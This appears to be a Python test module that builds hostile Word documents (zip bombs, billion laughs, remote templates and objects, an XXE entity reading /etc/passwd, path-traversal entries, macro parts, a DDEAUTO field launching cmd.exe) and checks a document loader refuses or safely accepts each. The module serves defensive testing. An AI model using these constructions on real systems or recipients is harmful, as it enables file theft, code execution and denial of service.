"""Word documents that unpack without end, reach out, run something, or hide a part."""

import io
import zipfile
from functools import cache

import docx
from hostile_case import Case, accepted, refused

MAIN, RELATIONS, TYPES = (
    "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml",
)  # fmt: skip
_OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@cache
def plain():
    document = docx.Document()
    document.add_paragraph("Shown text")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def changed(edits=None, more=None):
    """A sound document with parts edited (name to old and new bytes) and *more* parts added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain())) as old, zipfile.ZipFile(out, "w", 8) as new:
        for entry in old.infolist():
            before, after = (edits or {}).get(entry.filename, (b"", b""))
            data = old.read(entry)
            new.writestr(entry.filename, data.replace(before, after, 1) if before else data)
        for name, data in (more or {}).items():
            new.writestr(name, data)
    return out.getvalue()


def related(kind, target, external=True, more=None):
    mode = b' TargetMode="External"' if external else b""
    link = b'<Relationship Id="x9" Type="%s%s" Target="%s"%s/></Relationships>'
    made = link % (_OFFICE, kind, target, mode)
    return changed({RELATIONS: (b"</Relationships>", made)}, more)


def in_body(xml, more=None):
    return changed({MAIN: (b"<w:sectPr", xml + b"<w:sectPr")}, more)


def unpacks_to_60_mb():
    return changed(more={"word/media/image1.png": b"\0" * 60 * 2**20})


def xml_of_40_mb():
    return changed(more={"word/footnotes.xml": b"<w:a/>" * 7_000_000})


def endless_paragraphs():
    return in_body(
        b"".join(b'<w:p w:rsidR="%08X"/>' % (n * 2654435761 % 2**32) for n in range(300_000))
    )


def xml_by_another_name():
    """40 MB of it, in a part that no limit of XML counts."""
    return changed(
        {
            TYPES: (b"/word/document.xml", b"/word/document.dat"),
            "_rels/.rels": (b"word/document.xml", b"word/document.dat"),
        },
        {"word/document.dat": b"<w:a/>" * 7_000_000},
    )


def endless_pictures():
    """Of two kinds, and each only once: as many comparisons as one has times the other."""
    kinds = (b'<w:pict w:a="%08X"/>', b'<w:drawing w:a="%08X"/>')
    made = [kind % (n * 2654435761 % 2**32) for kind in kinds for n in range(120_000)]
    return in_body(b"<w:p><w:r>" + b"".join(made) + b"</w:r></w:p>")


def hundred_thousand_parts():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(MAIN, b"<x/>")
        for number in range(100_000):  # writestr takes four times as long
            part = zipfile.ZipInfo(f"word/{number}")
            part.header_offset, part.CRC = out.tell(), 0
            out.write(part.FileHeader(zip64=False))
            made.filelist.append(part)
        made.start_dir = out.tell()
    return out.getvalue()


def remote_template():
    return related(b"attachedTemplate", b"https://a.example/t.dotm")


def template_on_a_share():
    return related(b"attachedTemplate", b"\\\\host\\t.dotm")


def remote_part():
    return related(b"subDocument", b"https://a.example/HIDDEN.docx")


def remote_part_in_disguise():
    made = (
        b'<Relationship Id="x9" Type="%ssubDocument" Target="https://a.example/hyperlink"'
        b' TargetMode="&#69;xternal"/></Relationships>'
    )
    return changed({RELATIONS: (b"</Relationships>", made % _OFFICE)})


def remote_frame():
    return related(b"frame", b"https://a.example/frame.htm")


def remote_picture():
    return related(b"image", b"https://a.example/bug.png")


def remote_object():
    return related(b"oleObject", b"mhtml:https://a.example/x!x-usc:https://a.example/x")


def macros():
    return changed(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def macros_by_type():
    return changed({TYPES: (b"document.main+xml", b"document.macroEnabled.main+xml")})


def way_out():
    return changed(more={"../../../../tmp/x.xml": b"<x/>"})


def way_out_of_windows():
    return changed(more={"word\\..\\..\\x.xml": b"<x/>"})


def entity(declared):
    head = b'<?xml version="1.0"?><!DOCTYPE a [' + declared + b"]>"
    return changed({MAIN: (b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>", head)})


def file_as_entity():
    return entity(b'<!ENTITY b SYSTEM "file:///etc/passwd">')


def billion_laughs():
    lines = (
        b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10 if level else b"ha")
        for level in range(10)
    )
    return entity(b"".join(lines))


def entity_in_utf_16():
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>'
    return changed(more={"word/comments.xml": text.encode("utf-16")})


def entity_in_utf_7():
    text = '<?xml version="1.0" encoding="UTF-7"?><!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>'
    return changed(more={"word/comments.xml": text.encode("utf-7")})


def deep_nesting():
    return in_body(b"<w:tbl><w:tr><w:tc>" * 4_000 + b"</w:tc></w:tr></w:tbl>" * 4_000)


def part_twice():
    out = io.BytesIO(plain())
    with zipfile.ZipFile(out, "a") as made:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            made.writestr(MAIN, b"<x/>")
    return out.getvalue()


def cut_off():
    return plain()[:-500]


def not_word_at_all():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("evil.exe", b"MZ")
    return out.getvalue()


def inserted_document():
    return in_body(
        b'<w:altChunk xmlns:r="%s" r:id="x9"/>' % _OFFICE[:-1],
        {"word/afchunk.htm": b"<script>HIDDEN</script>"},
    )


def embedded_object():
    shape = b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
    return in_body(
        shape + b' Type="Embed"/></w:object></w:r></w:p>',
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0HIDDEN"},
    )


def text_for_old_programs():
    both = (
        b'<w:p><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/'
        b'markup-compatibility/2006"><mc:Choice Requires="x"><w:r><w:t>Chosen</w:t></w:r></mc:Choice>'
        b"<mc:Fallback><w:r><w:t>HIDDEN</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>"
    )
    return in_body(both)


def hidden_text():
    return in_body(b"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>HIDDEN</w:t></w:r></w:p>")


def field_that_fetches():
    code = b'<w:r><w:instrText>INCLUDETEXT "https://a.example/HIDDEN"</w:instrText></w:r>'
    dde = b'<w:r><w:instrText>DDEAUTO c:\\\\HIDDEN\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    return in_body(b"<w:p>" + code + dde + b"</w:p>")


WORDS: tuple[Case, ...] = (
    *(
        refused(make, "LOR732", "unpacks to more than a text")
        for make in (unpacks_to_60_mb, xml_of_40_mb, hundred_thousand_parts)
    ),
    refused(xml_by_another_name, "LOR732", "hides its kind"),
    refused(endless_paragraphs, "LOR732", "more paragraphs"),
    *(
        refused(make, "LOR732", "from elsewhere")
        for make in (remote_object, remote_part, remote_part_in_disguise, remote_frame)
    ),
    *(accepted(make) for make in (remote_template, template_on_a_share, remote_picture)),
    refused(macros, "LOR732", "macros"),
    refused(macros_by_type, "LOR732", "macros"),
    refused(way_out, "LOR732", "leads out"),
    refused(way_out_of_windows, "LOR732", "leads out"),
    *(
        refused(make, "LOR732", "declares a document type")
        for make in (file_as_entity, billion_laughs, entity_in_utf_16)
    ),
    refused(entity_in_utf_7, "LOR732", "encoding"),
    refused(deep_nesting, "LOR732", "damaged"),
    refused(part_twice, "LOR732", "twice"),
    refused(cut_off, "LOR732", "damaged"),
    refused(not_word_at_all, "LOR732", "damaged"),
    accepted(endless_pictures, "LOR736"),
    accepted(inserted_document, "LOR736"),
    accepted(embedded_object, "LOR736"),
    accepted(text_for_old_programs, shows=("Shown text", "Chosen")),
    accepted(hidden_text),
    accepted(field_that_fetches),
)
